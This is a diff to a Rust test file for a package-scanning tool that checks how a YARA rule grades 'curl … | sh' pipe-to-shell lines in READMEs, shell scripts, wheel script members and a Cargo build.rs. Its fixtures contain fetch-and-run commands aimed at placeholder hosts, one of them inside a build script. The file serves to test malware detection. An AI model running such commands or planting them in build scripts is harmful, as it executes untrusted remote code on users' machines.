@@ -239,11 +239,16 @@ fn every_builtin_rule_fires_on_its_fixture() {
             .iter()
             .find(|f| f.rule.id == "yara-match" && f.message.contains(id))
             .expect("finding");
-        let want = builtin()
+        let meta = builtin()
             .descriptions()
             .into_iter()
             .find(|m| m.id == id)
-            .and_then(|m| m.severity)
+            .expect("meta");
+        // A script (its name or `#!` line) takes the rule's `script_severity` when it has one.
+        let want = meta
+            .script_severity
+            .filter(|_| airlock::yara::is_script(&data, name))
+            .or(meta.severity)
             .expect("severity");
         assert_eq!(f.severity, want, "{id}: severity from meta");
         assert!(
@@ -320,10 +325,46 @@ fn evidence_is_the_matched_bytes_escaped_and_the_span_its_offset() {
         .iter()
         .find(|f| f.rule.id == "yara-match")
         .expect("finding");
-    assert_eq!(f.severity, Severity::Low);
+    // A script (its `#!` line): the rule's `script_severity`.
+    assert_eq!(f.severity, Severity::Medium);
     assert_eq!(f.location.span, Some(Span::Offset { offset: 15 }));
     assert_eq!(f.evidence, "curl -s https://x.example.invalid/a.sh | sh");
     assert!(f.message.contains("yara-pipe-to-shell"), "{}", f.message);
+}
+
+/// A download piped into a shell is low where it is documentation (a README, metadata) and
+/// medium in a script that runs as a command: a `#!` file, a `.sh`, or a wheel's
+/// `.data/scripts/` member, which the installer puts on `PATH` (tester t14 sc07).
+#[test]
+fn pipe_to_shell_is_medium_in_a_script_and_low_in_documentation() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let line = b"curl -LsSf https://get.example.invalid/install.sh | sh\n";
+    let grade = |r: &airlock::scan::FileReport| {
+        r.findings
+            .iter()
+            .filter(|f| f.rule.id == "yara-match" && f.message.contains("yara-pipe-to-shell"))
+            .map(|f| f.severity)
+            .max()
+    };
+    let readme = scan_bytes(
+        dir.path(),
+        "README.md",
+        &[b"Install with:\n\n    ", &line[..]].concat(),
+    );
+    assert_eq!(grade(&readme), Some(Severity::Low));
+    let script = scan_bytes(dir.path(), "get-tool.sh", line);
+    assert_eq!(grade(&script), Some(Severity::Medium));
+    let body = [&b"#!/bin/sh\n"[..], &line[..]].concat();
+    let whl = wheel(&[
+        ("sc-1.0.data/scripts/sc-tool", &body[..]),
+        ("sc/__init__.py", b""),
+    ]);
+    let r = scan_bytes(dir.path(), "sc-1.0-py3-none-any.whl", &whl);
+    assert_eq!(grade(&r), Some(Severity::Medium), "{:?}", r.findings);
+    // A Cargo build script of a maturin sdist (tester t21).
+    let build = b"fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://get.example.invalid/x.sh | sh\").status().unwrap();\n}\n";
+    let r = scan_bytes(dir.path(), "build.rs", build);
+    assert_eq!(grade(&r), Some(Severity::Medium), "{:?}", r.findings);
 }
 
 /// A wheel (zip, deflated) with `members`.
